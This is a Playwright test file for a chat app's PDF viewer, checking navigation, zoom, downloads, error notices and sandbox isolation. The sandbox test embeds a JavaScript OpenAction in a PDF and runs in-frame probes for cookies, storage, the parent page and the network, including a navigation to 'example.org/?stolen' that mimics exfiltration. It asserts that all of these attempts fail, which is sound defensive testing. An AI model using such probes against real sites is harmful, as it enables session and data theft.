"""PDF files in the viewer: what people see, and what the sandbox refuses."""

import os

import pytest
from playwright.sync_api import Frame, Page, expect

from apps.files.models import File
from tests.journeys.shown_files import send
from tests.support.axe import findings
from tests.support.live import database
from tests.support.pdfs import LOCKED, pdf
from tests.support.uploads import ready

PAGES = ("Tide tables", "January", "February", "March")
SHOTS = os.environ.get("PDF_SHOTS")


def shot(page: Page, name: str) -> None:
    if SHOTS:
        page.screenshot(path=f"{SHOTS}/{name}.png")


@pytest.fixture
def sent(cast):
    """`sent(content, name)`: Bob sends a file; `size`: which it seems to have."""

    def make(content: bytes, name: str, *, size: int = 0) -> None:
        def work() -> None:
            file = ready(cast.bob, content, name)
            if size:
                row = File.objects.get(id=file)
                row.body["size"] = size
                row.save(update_fields=["body"])
            send(cast.bob, cast.chat, file)

        database(work)

    return make


def frame_of(page: Page) -> Frame:
    found = page.locator("pdf-view iframe").element_handle().content_frame()
    assert found is not None
    return found


def test_a_pdf_is_read_with_keys_and_buttons(enter, cast, sent):
    sent(pdf(PAGES), "tides.pdf")
    page = enter(cast.alice, f"/c/{cast.chat}").page
    page.get_by_role("button", name="tides.pdf PDF").press("Enter")
    viewer = page.locator("dialog.viewer")
    pages = page.frame_locator("pdf-view iframe")
    expect(pages.get_by_label("Page 1", exact=True)).to_contain_text("Tide tables")
    number = viewer.get_by_label("Page", exact=True)
    expect(number).to_have_value("1")
    expect(viewer).to_contain_text("of 4")
    assert findings(page) == []
    shot(page, "light")

    page.keyboard.press("End")
    expect(number).to_have_value("4")
    expect(pages.get_by_label("Page 4")).to_contain_text("March")
    # Pages that are far away take no memory.
    expect(pages.get_by_label("Page 1", exact=True).locator("canvas")).to_have_count(0)
    number.fill("2")
    number.press("Enter")
    expect(number).to_have_value("2")
    viewer.get_by_role("button", name="Next page").click()
    expect(number).to_have_value("3")
    wide = pages.get_by_label("Page 3").bounding_box()["width"]
    viewer.get_by_role("button", name="Larger").click()
    expect(viewer.get_by_role("button", name="Whole width")).to_have_text("125 %")
    assert pages.get_by_label("Page 3").bounding_box()["width"] == pytest.approx(1.25 * wide, 0.01)
    expect(number).to_have_value("3")
    page.keyboard.press("0")
    expect(viewer.get_by_role("button", name="Whole width")).to_have_text("100 %")
    with page.expect_download() as download:
        viewer.get_by_role("link", name="Download tides.pdf").click()
    assert download.value.suggested_filename == "tides.pdf"

    # Inside the frame the keys work, too.
    pages.get_by_label("Page 3").click()
    page.keyboard.press("+")
    expect(viewer.get_by_role("button", name="Whole width")).to_have_text("125 %")
    page.keyboard.press("Escape")
    expect(viewer).to_have_count(0)
    expect(page.get_by_role("button", name="tides.pdf PDF")).to_be_focused()
    if SHOTS:
        page.emulate_media(color_scheme="dark")
        page.set_viewport_size({"width": 390, "height": 780})
        page.get_by_role("button", name="tides.pdf PDF").click()
        expect(pages.get_by_label("Page 1", exact=True)).to_contain_text("Tide tables")
        shot(page, "dark-390")


def test_a_pdf_that_cannot_be_shown_says_why_and_can_be_downloaded(enter, cast, sent):
    sent(b"%PDF-1.7\nnothing that follows is a PDF", "torn.pdf")
    sent(pdf(["Secret"], trailer=LOCKED), "locked.pdf")
    sent(pdf(["Long"]), "long.pdf", size=60_000_000)
    page = enter(cast.alice, f"/c/{cast.chat}").page
    note = page.locator("pdf-view").get_by_role("alert")
    reasons = {
        "torn.pdf": "cannot be shown here. The file may be damaged.",
        "locked.pdf": "is protected by a password. Download it to open it.",
        "long.pdf": "is too large to be shown here. Download it to open it.",
    }
    for name, reason in reasons.items():
        page.get_by_role("button", name=f"{name} PDF").click()
        expect(note).to_contain_text(f"{name} {reason}")
        expect(page.locator("pdf-view iframe")).to_have_count(0)
        with page.expect_download() as download:
            note.get_by_role("link", name="Download").click()
        assert download.value.suggested_filename == name
        shot(page, name)
        if name == "torn.pdf":
            assert findings(page) == []
        page.keyboard.press("Escape")
        expect(page.locator("dialog.viewer")).to_have_count(0)


def test_a_pdf_without_the_network_says_so_and_can_be_tried_again(enter, cast, sent):
    """The page of the browser about a missing network is not seen, and nobody waits for it."""
    sent(pdf(PAGES), "tides.pdf")
    page = enter(cast.alice, f"/c/{cast.chat}").page
    page.route("**/files/pdf", lambda route: route.abort("internetdisconnected"))
    page.get_by_role("button", name="tides.pdf PDF").click()
    expect(page.locator("pdf-view iframe")).to_have_css("opacity", "0")
    note = page.locator("pdf-view").get_by_role("alert")
    expect(note).to_contain_text("tides.pdf could not be loaded.", timeout=15_000)
    page.unroute("**/files/pdf")
    note.get_by_role("button", name="Try again").click()
    pages = page.frame_locator("pdf-view iframe")
    expect(pages.get_by_label("Page 1", exact=True)).to_contain_text("Tide tables")
    expect(page.locator("pdf-view iframe")).to_have_css("opacity", "1")


def test_the_frame_of_a_pdf_reaches_nothing(enter, cast, sent, watch):
    """Even a program that got into the frame: no session, no page around it, no network."""
    sent(pdf(["Hello"], catalog="/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"), "trap.pdf")
    alice = enter(cast.alice, f"/c/{cast.chat}")
    page = alice.page
    page.get_by_role("button", name="trap.pdf PDF").click()
    expect(page.frame_locator("pdf-view iframe").get_by_label("Page 1")).to_contain_text("Hello")
    assert watch.faults == []
    frame = frame_of(page)
    assert frame.evaluate("self.origin") == "null"
    tries = {
        "cookies": "async () => document.cookie",
        "page": "async () => parent.document.title",
        "storage": "async () => localStorage.length",
        "API": "async () => fetch('/api/v1/me')",
        "other files": "async () => fetch(new URL('../../../icon.svg', document.scripts[0].src))",
        "outside": "async () => fetch('https://example.org/', {mode: 'no-cors'})",
        "window": "async () => { if (!open('/')) throw new Error('none'); }",
    }
    for name, attempt in tries.items():
        reached = frame.evaluate(f"() => ({attempt})().then(() => true, () => false)")
        assert not reached, name
    elsewhere = []
    page.on("request", lambda request: elsewhere.append(request.url))
    with page.expect_event("console", lambda message: "policy: frame-src" in message.text):
        frame.evaluate("() => { location = 'https://example.org/?stolen'; }")
    assert not [url for url in elsewhere if "example.org" in url]
    # Chromium logs what it refused.
    refused = [fault for fault in watch.faults if "violates" in fault or "policy:" in fault]
    assert refused
    watch.faults.clear()


def test_a_frame_that_floods_its_page_is_taken_away(enter, cast, sent):
    sent(pdf(["Hello"]), "flood.pdf")
    page = enter(cast.alice, f"/c/{cast.chat}").page
    page.get_by_role("button", name="flood.pdf PDF").click()
    expect(page.frame_locator("pdf-view iframe").get_by_label("Page 1")).to_contain_text("Hello")
    frame_of(page).evaluate(
        "() => { for (let n = 0; n < 999; n += 1) parent.postMessage({}, '*'); }"
    )
    expect(page.locator("pdf-view").get_by_role("alert")).to_contain_text("cannot be shown here.")
    expect(page.locator("pdf-view iframe")).to_have_count(0)
